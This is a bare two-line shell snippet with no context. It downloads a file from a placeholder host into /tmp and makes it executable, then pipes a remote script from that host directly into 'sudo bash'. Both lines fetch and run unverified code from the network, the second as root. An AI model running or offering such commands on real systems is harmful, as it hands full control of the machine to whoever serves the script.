wget -O /tmp/a https://x.example/a && chmod +x /tmp/a
curl -fsSL https://x.example/i.sh | sudo bash
